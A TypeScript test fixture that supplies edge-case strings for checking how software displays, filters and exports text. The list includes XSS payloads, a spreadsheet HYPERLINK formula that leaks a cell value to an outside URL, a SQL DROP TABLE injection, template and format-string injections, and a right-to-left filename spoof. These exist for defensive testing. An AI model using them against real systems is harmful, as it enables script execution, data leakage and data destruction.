/** Texts that break careless software. Every one of them must be shown, filtered and exported as the text that it is. */
export const HOSTILE_TEXTS: readonly string[] = [
  'C:\\some\\location\\',
  '50% off_sale*',
  'O\'Brien "Bob"',
  '<script>alert("owned")</script>',
  '<img src=x onerror=alert(1)>',
  '=HYPERLINK("https://example.com/?leak="&A1,"Click")',
  '+49 30 1234567',
  '-20',
  '@SUM(A1:A9)',
  '\\"',
  'a,b (c) [d]',
  'my_field: x',
  'true',
  '42',
  '-x',
  "Robert'); DROP TABLE licenses;--",
  'Notepad++',
  'Ångström 日本',
  'no-break\u00a0space',
  'right-to-left \u202egnp.exe',
  'zero\u200bwidth and combining e\u0301',
  'İstanbul ıssız ǅ ß ſ K',
  '👩‍👩‍👧‍👦 family and 𝔘𝔫𝔦𝔠𝔬𝔡𝔢',
  'two\nlines\tand a tab',
  '{{constructor.constructor("return 1")()}}',
  '$' + '{7*7} %s %n {0}',
  '2024-01-31',
  'null',
  `${'long '.repeat(1_000)}end`,
  'W'.repeat(300),
];

/**
 * The hostile text for record `index` of `count`, spread over the whole set; null for nearly all records.
 * Small sets get fewer of them, so that they stay the exception.
 */
export function hostileAt(index: number, count: number, salt = 0): string | null {
  const stride = Math.max(7, Math.floor(count / HOSTILE_TEXTS.length));
  if (index % stride !== stride - 4 + (salt % 4)) return null;
  return HOSTILE_TEXTS[(Math.floor(index / stride) + salt) % HOSTILE_TEXTS.length] ?? null;
}

/** The place of the record that has nothing but its id: on the first page, but not the first that one sees. */
export const bareIndexOf = (count: number): number => (count > 80 ? 70 : 5);
